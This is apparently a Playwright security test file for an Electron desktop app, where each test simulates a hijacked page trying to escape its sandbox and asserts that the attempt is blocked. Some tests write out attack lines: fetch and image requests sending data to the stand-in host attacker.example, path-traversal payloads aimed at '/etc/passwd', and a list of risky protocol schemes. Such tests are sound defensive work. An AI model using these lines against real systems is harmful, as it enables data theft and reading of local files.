import { texts } from './support/acts.ts'
import { navigationsAsked, watchNavigation } from './support/navigation.ts'
import { askedToOpen, openSystemBrowser } from './support/outside.ts'
import { askServers, listenForPackets } from './support/packets.ts'
import { expect, test } from './support/test.ts'

test.use({ sharesProgram: true })

declare global {
  /** In main: what the dialogs that were shown said. */
  var dialogs: string[]
}

/** One test per attack: a page that has been taken over tries to get out. */

test.beforeEach(async ({ page }) => {
  await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
})

test('attack: the page navigates to another site', { tag: '@smoke' }, async ({ page }) => {
  const before = await page.evaluate(() => location.origin)
  await page.evaluate(() => {
    location.href = 'https://attacker.example/'
  })
  await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
  expect(await page.evaluate(() => [location.origin, typeof window.kontorist])).toEqual([before, 'object'])
})

test('attack: the page opens a window', { tag: '@smoke' }, async ({ app, page }) => {
  expect(await page.evaluate(() => window.open('https://attacker.example/'))).toBeNull()
  expect(app.windows()).toHaveLength(1)
})

test('attack: the page carries data to the system’s browser in fifty windows', async ({ app, page }) => {
  const opened = await page.evaluate(() =>
    Array.from({ length: 50 }, (_, n) => {
      const address = `https://attacker.example/${n}?data=${'x'.repeat(200)}`
      const link = Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'noopener' })
      document.body.append(link)
      link.click()
      link.remove()
      return window.open(address, n % 2 ? '_blank' : `name${n}`, n % 3 ? 'noopener' : '')
    })
  )
  expect(opened).toEqual(Array.from({ length: 50 }, () => null))
  // Whatever the page has asked for is decided on before main answers it.
  expect(await page.evaluate(() => window.kontorist.call('app.info', {}))).toMatchObject({ ok: true })
  expect(await askedToOpen(app)).toEqual([])
  expect(app.windows()).toHaveLength(1)
})

const ways = [
  [
    'a page that it has written itself',
    () => void (location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))
  ],
  [
    'such a page, in place of its own',
    () => location.replace(URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))
  ],
  ['another file of the program', () => void (location.href = '/assets/other.html')],
  ['the root of the program', () => void (location.href = '/')],
  ['its own page with something asked of it', () => void (location.href = '/index.html?x=1')],
  ['another host of its scheme', () => void (location.href = location.href.replace('kontorist', 'other'))]
] as const
test('attack: the page goes to an address that it could reach', async ({ app, page }) => {
  // The first page has been routed to.
  await expect(page).toHaveURL(/#\/overview$/)
  const before = page.url()
  for (const [what, go] of ways) {
    await test.step(what, async () => {
      await watchNavigation(app)
      await page.evaluate(go)
      await expect.poll(() => navigationsAsked(app)).toEqual([expect.objectContaining({ isDenied: true })])
      await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
      expect(page.url()).toBe(before)
      expect(await page.evaluate(() => typeof window.kontorist)).toBe('object')
    })
  }
})

test('attack: a peer connection of the page sends packets past the content policy', async ({ page }) => {
  const [listener, control] = await Promise.all([listenForPackets(), listenForPackets()])
  await askServers(page, listener)
  // Any other page that begins later has by then been heard three times: it asks at once, and after a quarter and a half second.
  const browser = await openSystemBrowser()
  await askServers(await browser.newPage(), control)
  await control.hears(3)
  expect(await listener.close()).toBe(0)
  await control.close()
  await browser.close()
})

test('attack: the page asks another way to the network than main’s', async ({ app, page }) => {
  await expect(page).toHaveTitle(/.+/)
  const ways = await app.evaluate(async ({ BrowserWindow, session }) => {
    const own = BrowserWindow.getAllWindows()[0]?.webContents.session
    const addresses = [
      'https://attacker.example/',
      'http://127.0.0.1:8080/',
      'http://localhost/',
      'wss://attacker.example/'
    ]
    return {
      isShared: own === session.defaultSession,
      ways: await Promise.all(addresses.map((address) => own?.resolveProxy(address)))
    }
  })
  expect(ways).toEqual({ isShared: false, ways: Array.from({ length: 4 }, () => 'PROXY 127.0.0.1:1') })
})

test('attack: a text becomes markup, a script or a policy of the page’s own', async ({ page }) => {
  const attempts = await page.evaluate(
    () =>
      new Promise<readonly string[]>((resolve) => {
        const outcome = (attempt: () => unknown): string => {
          try {
            attempt()
            return 'done'
          } catch (error) {
            return (error as Error).name
          }
        }
        const element = document.createElement('div')
        const script = document.createElement('script')
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
        }
        // In a task of the page's own: what the test evaluates directly is exempt from the content policy.
        requestAnimationFrame(() => {
          resolve(
            [
              () => Object.assign(element, { innerHTML: '<img src=x onerror=1>' }),
              () => element.insertAdjacentHTML('beforeend', '<b>x</b>'),
              () => document.write('<b>x</b>'),
              () => Object.assign(script, { src: '/assets/x.js' }),
              () => Object.assign(script, { text: 'window.taken = true' }),
              () => trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
              () => trustedTypes.createPolicy('vue', { createHTML: (text: string) => text })
            ].map(outcome)
          )
        })
      })
  )
  expect(attempts).toEqual(Array.from({ length: 7 }, () => 'TypeError'))
})

test('attack: the page allows itself to open programs on the computer', async ({ app, page }) => {
  await app.evaluate(({ app: it, dialog }) => {
    globalThis.dialogs = []
    it.getApplicationNameForProtocol = (address) => (address.startsWith('firma-login:') ? 'Firma Inloggning' : '')
    dialog.showMessageBox = async (...args: unknown[]) => {
      globalThis.dialogs.push(JSON.stringify(args.at(-1)))
      return { response: 0, checkboxChecked: false }
    }
  })
  const choose = (openSchemes: string[]) =>
    page.evaluate((schemes) => window.kontorist.call('settings.chooseSignIn', { openSchemes: schemes }), openSchemes)
  const dialogs = () => app.evaluate(() => globalThis.dialogs)

  for (const scheme of [
    'ms-officecmd',
    'ms-appinstaller',
    'search-ms',
    'search',
    'ldap',
    'ssh',
    'jnlp',
    'file',
    'javascript'
  ]) {
    expect(await choose(['bankid', scheme]), scheme).toMatchObject({ ok: false, problem: { code: 'invalid' } })
  }
  expect(await dialogs()).toEqual([])

  expect(await choose(['bankid', 'firma-login'])).toMatchObject({ ok: false, problem: { code: 'cancelled' } })
  expect(await dialogs()).toEqual([expect.stringContaining('firma-login: → Firma Inloggning')])
  for (let n = 0; n < 20; n++) expect(await choose([`firma-${n}`])).toMatchObject({ ok: false })
  // Nobody is worn out by a page that asks again and again.
  expect((await dialogs()).length).toBeLessThan(5)
  expect(await page.evaluate(() => window.kontorist.call('settings.get', {}))).toMatchObject({
    value: { signIn: { openSchemes: ['bankid', 'frejaeid'] } }
  })
})

test('a person allows a program to be opened, in a dialog that names it', async ({ app, page }) => {
  await app.evaluate(({ dialog }) => {
    dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false })
  })
  const answer = await page.evaluate(() =>
    window.kontorist.call('settings.chooseSignIn', { openSchemes: ['bankid', 'firma-login'] })
  )
  expect(answer).toMatchObject({ ok: true, value: { signIn: { openSchemes: ['bankid', 'firma-login'] } } })
})

test('attack: an inline script is put into the page', { tag: '@smoke' }, async ({ page }) => {
  const ran = await page.evaluate(() => {
    const script = document.createElement('script')
    // Its text cannot even be set; what is put into it as any other text is never run.
    script.append('window.taken = true')
    document.head.append(script)
    return 'taken' in window
  })
  expect(ran).toBe(false)
})

test('attack: text is run as a program', async ({ page }) => {
  const ran = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        // In a task of the page's own: what the test evaluates directly is exempt from the content policy.
        requestAnimationFrame(() => {
          try {
            resolve(String(Function('return true')()))
          } catch (error) {
            resolve((error as Error).name)
          }
        })
      })
  )
  expect(ran).toBe('EvalError')
})

test('attack: the page sends what it knows to another site', async ({ page }) => {
  const sent = await page.evaluate(() =>
    fetch('https://attacker.example/', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'refused'
    )
  )
  expect(sent).toBe('refused')
})

test('attack: an image carries data out', async ({ page }) => {
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true
        })
        new Image().src = 'https://attacker.example/?x=1'
      })
  )
  expect(blocked).toBe('img-src')
})

test('attack: a frame of another origin is put into the page', async ({ page }) => {
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true
        })
        const frame = document.createElement('iframe')
        frame.src = 'https://attacker.example/'
        document.body.append(frame)
      })
  )
  expect(blocked).toBe('frame-src')
})

test('attack: the page reads a file of the computer through the app protocol', { tag: '@smoke' }, async ({ page }) => {
  const statuses = await page.evaluate(() =>
    Promise.all(
      ['/../main/index.js', '/%2e%2e/main/index.js', '/..%2fmain%2findex.js', '//etc/passwd', '/index.html%00'].map(
        (path) =>
          fetch(path).then(
            ({ status }) => status,
            () => 0
          )
      )
    )
  )
  for (const status of statuses) expect([0, 404]).toContain(status)
})

test('attack: the page reaches for Node', async ({ page }) => {
  expect(
    await page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'ipcRenderer'].filter((name) => name in window)
    )
  ).toEqual([])
})

test('attack: the page puts its own bridge in place of ours', async ({ page }) => {
  const changed = await page.evaluate(() => {
    const before = window.kontorist.call
    try {
      Object.assign(window.kontorist, { call: () => 'taken' })
    } catch {
      // Frozen objects throw in strict mode.
    }
    return window.kontorist.call !== before
  })
  expect(changed).toBe(false)
})

test('attack: the page asks for a call that the contract does not have', { tag: '@smoke' }, async ({ page }) => {
  const answers = await page.evaluate(async () => {
    const call = window.kontorist.call as unknown as (name: string, args: unknown) => Promise<unknown>
    const outcome = (name: string): Promise<string> =>
      call(name, {}).then(
        () => 'answered',
        () => 'refused'
      )
    return Promise.all(
      ['electron-store-get-data', '__ELECTRON_LOG__', 'toString', '__proto__', 'lists.everything'].map(outcome)
    )
  })
  expect(answers).toEqual(Array.from({ length: 5 }, () => 'refused'))
})

test('attack: a call is made with arguments that are not of its shape', async ({ page }) => {
  const answer = await page.evaluate(() =>
    window.kontorist.call('rows.block', {
      of: { kind: 'list', list: '../settings' },
      query: { $where: '1' },
      from: -1,
      to: 1e9
    } as never)
  )
  expect(answer).toMatchObject({ ok: false, problem: { code: 'invalid' } })
})

test('attack: the page asks for a permission', { tag: '@smoke' }, async ({ page }) => {
  const answers = await page.evaluate(async () => [
    await Notification.requestPermission(),
    await navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'granted',
      () => 'denied'
    ),
    await navigator.permissions.query({ name: 'geolocation' }).then(({ state }) => state)
  ])
  expect(answers).toEqual(['denied', 'denied', 'denied'])
})
